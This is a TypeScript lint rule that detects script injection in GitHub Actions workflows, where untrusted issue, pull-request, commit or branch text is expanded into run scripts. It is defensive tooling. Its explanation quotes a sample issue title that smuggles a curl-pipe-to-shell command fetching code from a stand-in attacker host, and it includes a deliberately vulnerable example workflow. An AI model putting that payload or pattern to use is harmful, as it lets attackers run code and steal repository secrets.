import { findExpressions, ghaLocate, readGithubWorkflows, type GhaExpression, type GhaWorkflow } from '../../facts/github-actions.ts';
import { defineRule } from '../../model/rule.ts';

/**
 * Context paths an outside contributor controls (actionlint's untrusted inputs, zizmor's
 * template-injection list). `*` stands for an array index or `.*` filter.
 */
const UNTRUSTED = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.display_title',
  'github.head_ref',
].map((p) => p.split('.'));

/** Functions whose result is a boolean or a number, never the argument's text. */
const SAFE_FUNCTIONS = /^(contains|startsWith|endsWith|success|failure|always|cancelled|hashFiles)$/i;

export default defineRule({
  meta: {
    id: 'gha-script-injection',
    category: 'security',
    title: 'Untrusted GitHub context expanded into a workflow script',
    severity: 'high',
    confidence: 'high',
    status: 'experimental',
    appliesWhen: ['github-actions'],
    scorecard: 'Configuration',
    effortHours: 0.5,
    messages: {
      runInjection: 'Step {{step}} in job `{{job}}` expands `{{expression}}` straight into its `run:` script, so a crafted {{what}} runs shell commands in the workflow.',
      githubScriptInjection: 'Step {{step}} in job `{{job}}` expands `{{expression}}` straight into its `actions/github-script` code, so a crafted {{what}} runs JavaScript in the workflow.',
      inputInRun: 'Step {{step}} in job `{{job}}` expands the free-text input `{{expression}}` straight into its `run:` script.',
    },
    why: [
      'GitHub substitutes `${{ … }}` expressions into the script text *before* the shell starts. An issue title, pull-request body, branch name or commit message is written by whoever opens the issue or pull request, so a title such as `a"; curl -sSfL https://evil.example/x | sh; echo "` becomes part of the command. The script then runs with the job\'s `GITHUB_TOKEN` and every secret the job can read — enough to push to the repository, publish a release or steal deployment keys.',
      '',
      'Workflow inputs (`workflow_dispatch`, `workflow_call`) are typed only by people with write access, so they are a smaller risk, but the same quoting bug breaks the step on an input with a quote in it.',
    ].join('\n'),
    fix: [
      'Pass the value through an environment variable and quote it in the shell; the value is then data, never code.',
      '',
      '```yaml',
      '- name: Greet new issue',
      '  env:',
      '    TITLE: ${{ github.event.issue.title }}',
      '  run: |',
      '    echo "New issue: $TITLE"',
      '```',
      'In `actions/github-script`, read `context.payload.issue.title` (or `process.env.TITLE`) instead of an expression inside `script:`.',
    ].join('\n'),
    examples: {
      bad: {
        '.github/workflows/triage.yml':
          'on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "Triaging ${{ github.event.issue.title }}"\n',
      },
      good: {
        '.github/workflows/triage.yml':
          'on:\n  issues:\n    types: [opened]\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "Triaging $TITLE"\n',
      },
    },
    references: {
      cwe: [78, 94],
      owasp: ['A03:2021'],
      urls: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      ],
      equivalents: ['zizmor:template-injection', 'actionlint:expression', 'checkov:CKV_GHA_2', 'semgrep:yaml.github-actions.security.run-shell-injection.run-shell-injection'],
    },
  },
  check({ files, report }) {
    for (const workflow of readGithubWorkflows(files, ['${{'])) {
      const file = workflow.file;
      const pullRequestOnly = workflow.triggers.size > 0 && [...workflow.triggers].every((t) => t === 'pull_request');
      for (const job of workflow.jobs) {
        for (const step of job.steps) {
          const isGithubScript = !!step.uses && /^actions\/github-script@/i.test(step.uses.value);
          const script = step.run ?? (isGithubScript ? step.with.get('script') : undefined);
          if (!script) continue;
          for (const expression of findExpressions(file, script)) {
            const verdict = judgeExpression(expression, workflow);
            if (!verdict) continue;
            const data = { step: step.named ? `\`${step.label}\`` : `${step.index + 1}`, job: job.id, expression: `\${{ ${expression.body} }}`, what: verdict.what };
            const at = ghaLocate(file, expression.start, expression.end, ['jobs', job.id, 'steps', step.index, step.run ? 'run' : 'with']);
            if (verdict.input) report({ messageId: 'inputInRun', at, data, severity: 'medium', confidence: 'medium' });
            else
              report({
                messageId: step.run ? 'runInjection' : 'githubScriptInjection',
                at,
                data,
                // Under `pull_request` the fork's own workflow file runs anyway, without secrets.
                ...(pullRequestOnly ? { severity: 'medium' as const } : {}),
              });
          }
        }
      }
    }
  },
});

/** Which untrusted value the expression yields as text, if any. */
function judgeExpression(expression: GhaExpression, workflow: GhaWorkflow): { what: string; input: boolean } | undefined {
  const body = expression.body;
  const re = /[A-Za-z_][\w-]*(?:\s*(?:\.\s*[\w-]+|\.\*|\[[^\]]*\]))*/g;
  for (let m = re.exec(body); m; m = re.exec(body)) {
    const ref = m[0];
    const after = body.slice(m.index + ref.length);
    if (/^\s*\(/.test(after)) continue; // a function name
    if (isBooleanContext(body, m.index, m.index + ref.length)) continue;
    const path = normalise(ref);
    if (path[0] === 'github' && UNTRUSTED.some((u) => covers(path, u))) return { what: describe(path), input: false };
    const input = inputName(path);
    if (input && workflow.kind === 'workflow') {
      const declared = workflow.inputs.find((i) => i.name === input);
      if (declared && declared.type !== 'string') continue;
      return { what: `input \`${input}\``, input: true };
    }
  }
  return undefined;
}

function normalise(ref: string): string[] {
  return ref
    .replace(/\s+/g, '')
    .replace(/\[\s*['"]([\w-]+)['"]\s*\]/g, '.$1')
    .replace(/\[[^\]]*\]/g, '.*')
    .split('.')
    .filter(Boolean);
}

/** True when the reference is the untrusted path or an object that contains it (`toJSON(github.event.issue)`). */
function covers(path: string[], untrusted: string[]): boolean {
  if (path.length > untrusted.length) return false;
  if (path.length < 3 && path.length !== untrusted.length) return false; // `github.event` alone: too broad to call
  return path.every((segment, i) => untrusted[i] === '*' || segment === untrusted[i] || segment === '*');
}

function inputName(path: string[]): string | undefined {
  if (path[0] === 'inputs' && path.length === 2) return path[1];
  if (path[0] === 'github' && path[1] === 'event' && path[2] === 'inputs' && path.length === 4) return path[3];
  return undefined;
}

function describe(path: string[]): string {
  const p = path.join('.');
  const last = path[path.length - 1];
  const field = last === 'title' || last === 'body' ? ` ${last}` : '';
  if (p.includes('head_commit') || p.includes('commits')) return last === 'message' ? 'commit message' : 'commit author';
  if (p.includes('head.ref') || p.includes('head_ref') || p.includes('head_branch') || p.includes('head.label') || p.includes('default_branch')) return 'branch name';
  if (p.includes('review_comment') || p.includes('comment')) return 'comment';
  if (p.includes('review')) return 'review';
  if (p.includes('pull_request')) return `pull request${field}`;
  if (p.includes('issue')) return `issue${field}`;
  if (p.includes('discussion')) return `discussion${field}`;
  if (p.includes('pages')) return 'wiki page name';
  if (p.includes('workflow_run')) return 'triggering run title';
  return 'value';
}

/** Inside `contains(…)` / `startsWith(…)`, or an operand of a comparison: the result is a boolean. */
function isBooleanContext(body: string, start: number, end: number): boolean {
  if (/^\s*(==|!=|<=|>=|<|>)/.test(body.slice(end)) || /(==|!=|<=|>=|<|>)\s*$/.test(body.slice(0, start))) return true;
  let depth = 0;
  for (let i = start - 1; i >= 0; i--) {
    const c = body[i];
    if (c === ')') depth++;
    else if (c === '(') {
      if (depth === 0) {
        const name = /([A-Za-z_]\w*)\s*$/.exec(body.slice(0, i))?.[1] ?? '';
        if (SAFE_FUNCTIONS.test(name)) return true;
      } else depth--;
    }
  }
  return false;
}
